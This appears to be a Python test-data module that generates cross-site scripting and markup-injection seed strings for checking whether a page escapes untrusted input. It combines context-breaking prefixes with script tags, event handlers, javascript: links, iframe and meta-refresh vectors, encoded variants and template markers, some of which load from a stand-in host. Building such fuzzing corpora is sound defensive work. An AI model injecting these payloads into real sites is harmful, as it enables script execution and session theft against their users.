"""Words that would be a page's own if they were not shown as words: class 19 of docs/bad-input.md. Whatever acts in them is called by MARK."""

from itertools import product

MARK = "gzx"

_OUT = (
    "",  # from the text of a page
    '">',  # from an attribute
    "'>",
    "</textarea></title></script></style>-->",  # from what a browser does not read as markup
)
_ACTS = (
    "<script>gzx()</script>",
    "<ScRiPt/x>gzx()</sCrIpT >",
    "<script src=//gzx.example></script>",
    "<img src=x onerror=gzx()>",
    "<img/src=`x`onerror=gzx()>",
    "<svg/onload=gzx()>",
    "<svg><script>gzx()</script></svg>",
    "<svg><animate onbegin=gzx() attributeName=x>",
    "<math><mi xlink:href=javascript:gzx()>门</mi></math>",
    "<body onload=gzx()>",
    "<details open ontoggle=gzx()>",
    "<input autofocus onfocus=gzx()>",
    "<a href=javascript:gzx()>门</a>",
    "<a href='java\tscript:gzx()'>门</a>",
    "<form action=javascript:gzx()><button>门",
    "<button formaction=javascript:gzx()>门",
    "<iframe srcdoc='<script>gzx()</script>'>",
    "<iframe src=javascript:gzx()>",
    "<object data=javascript:gzx()>",
    "<embed src=data:text/html,gzx>",
    "<base href=//gzx.example/>",
    "<meta http-equiv=refresh content='0;url=//gzx.example'>",
    "<link rel=stylesheet href=//gzx.example>",
    "<style>*{background:url(//gzx.example)}</style>",
    "<gzx style=x:expression(gzx())>",
    "<!--gzx--><!DOCTYPE gzx>",
    "<![CDATA[<gzx/>]]>",
    "<xml><gzx/></xml>",
    "<template><gzx>",
    "<noscript><p title='</noscript><img src=x onerror=gzx()>'>",
)
_IN_PLACE = (
    '" onmouseover="gzx()',
    "' onmouseover='gzx()",
    "` onmouseover=`gzx()",
    "x onmouseover=gzx()",
    '" autofocus onfocus=gzx() x="',
    "javascript:gzx()",
    "data:text/html,<script>gzx()</script>",
    "&lt;script&gt;gzx()&lt;/script&gt;",
    "&#60;img src=x onerror=gzx()&#62;",
    "\\u003cscript\\u003egzx()\\u003c/script\\u003e",
    "%3Cscript%3Egzx()%3C/script%3E",
    "＜script＞gzx()＜/script＞",
    "';gzx();//",
    '";gzx();//',
    "{{gzx}}${gzx}#{gzx}<%=gzx%>",
    '#panic("gzx") $gzx$ *gzx* `gzx` @gzx <gzx>',  # of a typesetter
    "[门](javascript:gzx()) ![门](//gzx.example)",
)

SEEDS: tuple[str, ...] = (*(out + act for out, act in product(_OUT, _ACTS)), *_IN_PLACE)
